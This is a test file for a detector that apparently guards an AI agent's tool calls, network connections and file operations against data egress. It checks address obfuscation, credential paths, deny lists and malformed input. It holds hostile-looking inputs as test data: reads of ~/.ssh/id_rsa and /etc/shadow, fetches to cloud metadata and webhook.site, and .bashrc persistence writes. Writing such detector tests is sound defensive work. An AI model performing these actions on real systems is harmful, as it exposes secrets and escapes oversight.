import { describe, expect, test } from "bun:test";
import { Value } from "@sinclair/typebox/value";
import type { DetectorOutcome } from "../../engine/detector.ts";
import { createInspectedEvent } from "../../engine/inspected-event.ts";
import type { GuardEvent, Provenance } from "../../wire/guard-event.ts";
import negativeCases from "./fixtures/negative.json";
import positiveCases from "./fixtures/positive.json";
import { egressDetector, type EgressConfig } from "./index.ts";
import { classifyHost } from "./host-class.ts";
import { parseIpv4 } from "./ip-address.ts";
import { normalisePath } from "./paths.ts";
import { inspectWith, makeEvent } from "../test-support.ts";

interface Fixture {
  name: string;
  kind: string;
  payload: Record<string, unknown>;
  provenance?: Provenance[];
  /** Values (hosts, URLs, paths) findings must point at exactly and never echo. */
  planted?: string[];
  expect: { decision: string; categories?: string[]; check_ids?: string[] };
}


const inspect = (event: GuardEvent, config: EgressConfig = egressDetector.defaultConfig): DetectorOutcome => inspectWith(egressDetector, event, config);

const unique = (values: readonly (string | undefined)[]): string[] =>
  [...new Set(values.filter((v): v is string => v !== undefined))].sort();

function textsOf(event: GuardEvent): Map<string, string> {
  return new Map(createInspectedEvent(event).texts().map((f) => [f.path, f.text]));
}

function expectFixture(fixture: Fixture): void {
  const event = makeEvent(fixture.kind, fixture.payload, fixture.provenance ? { provenance: fixture.provenance } : {});
  const outcome = inspect(event);
  expect(outcome.decision).toBe(fixture.expect.decision as DetectorOutcome["decision"]);
  if (fixture.expect.categories) {
    expect(unique(outcome.findings.map((f) => f.category))).toEqual(unique(fixture.expect.categories));
  }
  if (fixture.expect.check_ids) {
    expect(unique(outcome.findings.map((f) => f.check_id))).toEqual(unique(fixture.expect.check_ids));
  }
  const texts = textsOf(event);
  const spans = outcome.findings.filter((f) => f.path !== undefined).map((f) => texts.get(f.path!)!.slice(f.start, f.end));
  const serialized = JSON.stringify(outcome);
  for (const value of fixture.planted ?? []) {
    expect(spans).toContain(value);
    expect(serialized).not.toContain(value);
  }
}

describe("egress detector: positive fixtures", () => {
  test("the corpus is large enough", () => expect(positiveCases.length).toBeGreaterThanOrEqual(40));
  for (const fixture of positiveCases as Fixture[]) test(fixture.name, () => expectFixture(fixture));
});

describe("egress detector: negative fixtures", () => {
  test("the corpus is large enough", () => expect(negativeCases.length).toBeGreaterThanOrEqual(40));
  for (const fixture of negativeCases as Fixture[]) test(fixture.name, () => expectFixture(fixture));
});

describe("address forms", () => {
  test("read every inet_aton spelling of loopback as 127.0.0.1", () => {
    for (const form of ["127.0.0.1", "2130706433", "0177.0.0.1", "0x7f000001", "0x7f.1", "127.1", "127.0.1"]) {
      expect(parseIpv4(form)?.value).toBe(0x7f000001);
    }
    expect(parseIpv4("127.0.0.1")?.canonical).toBe(true);
    expect(parseIpv4("127.1")?.canonical).toBe(false);
    expect(parseIpv4("1.2.3.4.5")).toBeUndefined();
    expect(parseIpv4("256.1.1.1")).toBeUndefined();
    expect(parseIpv4("08.1.1.1")).toBeUndefined();
  });

  test("classify names, literals and embeddings", () => {
    expect(classifyHost("LOCALHOST.")).toMatchObject({ cls: "loopback", obfuscated: false });
    expect(classifyHost("[::1]")).toMatchObject({ cls: "loopback", obfuscated: false });
    expect(classifyHost("0.0.0.0")).toMatchObject({ cls: "loopback", obfuscated: false });
    expect(classifyHost("ip-10-1-2-3.ec2.internal")).toMatchObject({ cls: "private", obfuscated: true });
    expect(classifyHost("127.0.0.1.nip.io")).toMatchObject({ cls: "loopback", obfuscated: false });
    expect(classifyHost("1.10.0.0.1.nip.io")).toMatchObject({ cls: "private" });
    expect(classifyHost("[64:ff9b::a9fe:a9fe]")).toMatchObject({ cls: "metadata", obfuscated: true });
    expect(classifyHost("example.com")).toMatchObject({ cls: "public", obfuscated: false });
  });
});

describe("path normalisation", () => {
  test("fold home spellings and resolve dot segments", () => {
    for (const form of ["~/.ssh/id_rsa", "$HOME/.ssh/id_rsa", "${HOME}/.ssh//id_rsa", "/root/.ssh/./id_rsa", "/home/dev/x/../.ssh/id_rsa", "C:\\Users\\dev\\.ssh\\id_rsa", "%USERPROFILE%\\.ssh\\id_rsa", "/Users/dev/.ssh/id_rsa"]) {
      expect(normalisePath(form)).toEqual({ segs: [".ssh", "id_rsa"], home: true, absolute: false });
    }
    expect(normalisePath("/private/etc/sudoers")).toEqual({ segs: ["etc", "sudoers"], home: false, absolute: true });
    expect(normalisePath("../../x")).toEqual({ segs: ["..", "..", "x"], home: false, absolute: false });
    expect(normalisePath("a\nb")).toBeUndefined();
  });

  test("a path asked for again gets the same answer, which no caller can change", () => {
    const first = normalisePath("~/.aws/credentials")!;
    expect(normalisePath("~/.aws/credentials")).toBe(first);
    expect(() => (first.segs as string[]).push("x")).toThrow();
    expect(normalisePath("~/.aws/credentials")).toEqual({ segs: [".aws", "credentials"], home: true, absolute: false });
    // Long texts are normalised each time (and not kept), with the same result.
    const long = `/tmp/${"a/".repeat(200)}x`;
    expect(normalisePath(long)).toEqual(normalisePath(long));
    expect(normalisePath(long)).not.toBe(normalisePath(long));
  });
});

describe("configuration", () => {
  const loopback = makeEvent("tool_call", { name: "WebFetch", arguments: { url: "http://localhost:8080/", prompt: "x" } });

  test("the default configuration validates against the schema", () => {
    expect(Value.Check(egressDetector.configSchema, egressDetector.defaultConfig)).toBe(true);
    expect(Value.Check(egressDetector.configSchema, { allow_loopback: "yes" })).toBe(false);
    expect(Value.Check(egressDetector.configSchema, { unknown: 1 })).toBe(false);
  });

  test("loopback is an info finding by default and needs approval when not allowed", () => {
    expect(inspect(loopback).findings).toEqual([expect.objectContaining({ check_id: "egress.loopback", severity: "info" })]);
    const strict = inspect(loopback, { allow_loopback: false });
    expect(strict.decision).toBe("require_approval");
    expect(strict.findings[0]).toMatchObject({ severity: "high", check_id: "egress.loopback" });
  });

  test("deny_hosts blocks a host and its subdomains, not look-alikes", () => {
    const config = { deny_hosts: ["evil.example"] };
    const sub = inspect(makeEvent("network", { host: "cdn.evil.example", port: 443, direction: "egress" }), config);
    expect(sub.decision).toBe("block");
    expect(sub.findings.map((f) => f.check_id)).toEqual(["egress.denied_host"]);
    const lookAlike = inspect(makeEvent("network", { host: "notevil.example", port: 443 }), config);
    expect(lookAlike.decision).toBe("allow");
  });

  test("allow_hosts wins over deny_hosts, the service catalogue and private ranges", () => {
    const config = { allow_hosts: ["webhook.site", "10.20.0.0/16"], deny_hosts: ["webhook.site"] };
    const bin = makeEvent("tool_call", { name: "fetch", arguments: { url: "https://webhook.site/x?d=aaaaaaaaaaaaaaaaaaaaaaaa" } });
    expect(inspect(bin, config).decision).toBe("allow");
    expect(inspect(makeEvent("network", { host: "10.20.3.4", port: 5432 }), config).decision).toBe("allow");
    expect(inspect(makeEvent("network", { host: "10.21.3.4", port: 3389 }), config).decision).toBe("require_approval");
  });
});

describe("spans", () => {
  test("point into a JSON-string argument at the host", () => {
    const args = JSON.stringify({ url: "http://10.1.2.3/x", prompt: "y" });
    const outcome = inspect(makeEvent("tool_call", { name: "WebFetch", arguments: args }));
    const finding = outcome.findings[0]!;
    expect(finding.path).toBe("payload.arguments");
    expect(args.slice(finding.start, finding.end)).toBe("10.1.2.3");
  });

  test("cover the whole value when a URL had its tabs and newlines dropped", () => {
    const url = "http://12\n7.0.0.1/";
    const outcome = inspect(makeEvent("tool_call", { name: "fetch", arguments: { url } }));
    expect(outcome.findings.length).toBeGreaterThan(0);
    for (const f of outcome.findings) expect([f.start, f.end]).toEqual([0, url.length]);
  });

  test("config changes point at the target field", () => {
    const outcome = inspect(makeEvent("config_change", { target: "hooks", path: "x", diff_ref: "d" }));
    expect(outcome.findings[0]).toMatchObject({ path: "payload.target", start: 0, end: 5 });
  });
});

describe("scope", () => {
  test("leave what shell commands do with files to the shell detector; only their destinations are judged here", () => {
    const outcome = inspect(makeEvent("tool_call", { name: "Bash", arguments: { command: "cat ~/.ssh/id_rsa" } }));
    expect(outcome).toEqual({ decision: "allow", reasons: ["no risky destination, file or configuration change"], findings: [] });
  });

  test("file metadata operations reveal nothing and are not judged", () => {
    expect(inspect(makeEvent("file", { op: "stat", path: "/etc/shadow" })).findings).toEqual([]);
  });

  test("an open for appending is a write; read-only flags are a read", () => {
    const rc = "/home/dev/.bashrc";
    const append = inspect(makeEvent("file", { op: "open", path: rc, mode: "a" }));
    expect(append.findings.map((f) => f.check_id)).toEqual(["files.persistence_write"]);
    const flags = inspect(makeEvent("file", { op: "open", path: rc, flags: "O_WRONLY|O_CREAT|O_APPEND" }));
    expect(flags.findings.map((f) => f.check_id)).toEqual(["files.persistence_write"]);
    expect(inspect(makeEvent("file", { op: "open", path: rc, flags: "O_RDONLY|O_LARGEFILE" })).findings).toEqual([]);
  });

  test("judge network events that carry metadata only", () => {
    expect(egressDetector.encodings).toContain("metadata_only");
    const event = makeEvent("network", { host: "169.254.169.254", port: 80 }, { content_encoding: "metadata_only" });
    expect(inspect(event).decision).toBe("block");
  });
});

describe("hostile payloads", () => {
  const big = 1 << 20;

  test("1 MiB values in every judged position complete", () => {
    const events = [
      makeEvent("tool_call", { name: "WebFetch", arguments: { url: `http://${"1.".repeat(big / 2)}/`, prompt: "x" } }),
      makeEvent("tool_call", { name: "fetch", arguments: { url: `http://${"a-".repeat(big / 2)}.nip.io/` } }),
      makeEvent("tool_call", { name: "Read", arguments: { file_path: `/${"../".repeat(big / 3)}etc/shadow` } }),
      makeEvent("tool_call", { name: "apply_patch", arguments: { input: "*** Add File: a\n".repeat(big / 16) } }),
      makeEvent("tool_call", { name: "WebFetch", arguments: JSON.stringify({ url: `http://x/${"%".repeat(big)}` }) }),
      makeEvent("tool_call", {
        name: "fetch",
        arguments: JSON.stringify(Object.fromEntries(Array.from({ length: 600 }, (_, i) => [`u${i}`, `http://10.0.${i}.1/${"a".repeat(1500)}`]))),
      }),
      makeEvent("network", { host: `${"[".repeat(big)}`, port: 80 }),
      makeEvent("network", { host: `${"9.".repeat(big / 2)}nip.io`, port: 80 }),
      makeEvent("file", { op: "write", path: ".vscode/settings.json", content: "autoApprove".repeat(big / 11) }),
    ];
    for (const event of events) expect(inspect(event).decision).toBeDefined();
  });

  test("garbage payloads do not throw", () => {
    let deep: unknown = "http://169.254.169.254/";
    for (let i = 0; i < 5000; i++) deep = { url: deep };
    const payloads: [string, Record<string, unknown>][] = [
      ["tool_call", { name: 42, arguments: { url: 1 } }],
      ["tool_call", { name: "WebFetch", arguments: null }],
      ["tool_call", { name: "WebFetch", arguments: [1, null, { url: ["http://[::", 7] }] }],
      ["tool_call", { name: "fetch", arguments: "{not json" }],
      ["tool_call", { name: "constructor", arguments: { path: "__proto__/.claude/constructor" } }],
      ["tool_call", { name: "fetch", arguments: deep as Record<string, unknown> }],
      ["network", { host: 12, port: "80", direction: null }],
      ["network", { host: "[fe80::1", port: -1 }],
      ["file", { op: 7, path: ["a"] }],
      ["file", { op: "rename", path: "/tmp/a", dest: { x: 1 } }],
      ["config_change", { target: ["hooks"] }],
      ["mcp_connect", { url: "http://%zz%/" }],
    ];
    for (const [kind, payload] of payloads) expect(() => inspect(makeEvent(kind, payload))).not.toThrow();
  });

  test("report fields too large to extract as unjudged", () => {
    const outcome = inspect(makeEvent("tool_call", { name: "Write", arguments: { file_path: "a.txt", content: "a".repeat(big + 1) } }));
    expect(outcome.unjudged).toEqual(["payload.arguments.content"]);
  });
});
